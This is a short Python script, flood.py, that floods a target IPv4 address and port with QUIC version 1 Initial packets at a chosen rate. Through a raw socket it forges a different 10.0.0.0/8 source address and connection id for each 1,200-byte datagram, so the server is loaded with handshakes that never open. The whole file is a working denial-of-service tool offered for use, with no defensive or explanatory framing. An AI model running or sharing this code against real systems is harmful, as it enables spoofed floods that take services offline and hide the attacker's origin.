# SPDX-License-Identifier: GPL-3.0-or-later
"""QUIC Initials that do not open, from forged sources: flood.py TARGET PORT PER-SECOND SECONDS

Sends 1,200-byte datagrams to an IPv4 address, each from another address of 10.0.0.0/8 with another
connection id, and prints how many it sent.
"""
import os
import socket
import struct
import sys
import time

SIZE = 1200
HEAD = struct.pack(">BIB", 0xC3, 1, 8)  # QUIC 1, an id of 8 bytes follows
TAIL = b"\0\0\x44\x9e"  # an empty id, no token, and the length of the rest


def initial(number):
    return HEAD + struct.pack(">Q", number) + TAIL + os.urandom(SIZE - len(HEAD) - 8 - len(TAIL))


def wrap(number, target, port, payload):
    source = b"\x0a" + struct.pack(">I", number)[1:]
    udp = struct.pack(">HHHH", 5000, port, 8 + len(payload), 0) + payload
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source,
                       socket.inet_aton(target))
    return head + udp


def main(target, port, rate, seconds):
    wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    started = time.monotonic()
    sent = 0
    while time.monotonic() - started < seconds:
        due = int((time.monotonic() - started) * rate)
        while sent < due:
            wire.sendto(wrap(sent, target, port, initial(sent)), (target, 0))
            sent += 1
        time.sleep(0.001)
    print(sent)


main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]))
